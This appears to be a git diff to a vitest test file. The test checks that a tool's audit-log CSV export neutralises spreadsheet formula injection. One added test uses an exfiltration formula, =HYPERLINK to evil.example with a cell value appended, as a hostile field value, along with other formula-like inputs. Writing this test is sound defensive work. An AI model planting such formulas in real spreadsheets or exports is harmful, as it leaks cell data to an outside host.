@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest';
+import { appendAuditRecord } from '../../src/audit/index.ts';
+import { auditDraft } from '../support/audit.ts';
 import { withCliWorld } from '../support/cli.ts';
 
 describe('keyhole audit export (CLI, real PostgreSQL)', () => {
@@ -13,8 +15,20 @@ describe('keyhole audit export (CLI, real PostgreSQL)', () => {
       expect(lines[0]).toMatchObject({ decision: 'allowed', actorId: 'support-bot', subjectCount: 3 });
       expect(lines[0].subjects).toHaveLength(3);
       expect(lines[1]).toMatchObject({ decision: 'denied', code: 'UNAUTHENTICATED', subjects: [] });
-      const csv = (await run('csv')).stdout.trim().split('\n');
+      const csv = (await run('csv')).stdout.split('\r\n');
       expect(csv[0]).toBe('seq,recordedAt,actorKind,actorId,purpose,actorLocation,operationKind,decision,code,tables,rowCount,subjectCount,jurisdictions,hash');
-      expect(csv).toHaveLength(3);
+      expect(csv).toHaveLength(4);
+      expect(csv[3]).toBe('');
+    }));
+
+  it('writes CSV a spreadsheet cannot run: formula-like cells stay text, a bare CR stays inside its cell', () =>
+    withCliWorld(async ({ t, kh, keyhole }) => {
+      const hostile = { actorId: '=HYPERLINK("http://evil.example/?"&A1)', purpose: '@SUM(1)', actorLocation: 'SG\rEU', code: '-1+1' };
+      await t.db.transaction((tx) => appendAuditRecord(tx, kh.broker.secrets.auditKey, auditDraft(hostile)));
+      const [header, row, end] = (await keyhole('audit', 'export', '--format', 'csv')).stdout.split('\r\n');
+      expect(header).toMatch(/^seq,/);
+      expect(end).toBe('');
+      expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1)",'@SUM(1),"SG\rEU",query,allowed,'-1+1,`);
     }));
 });
+
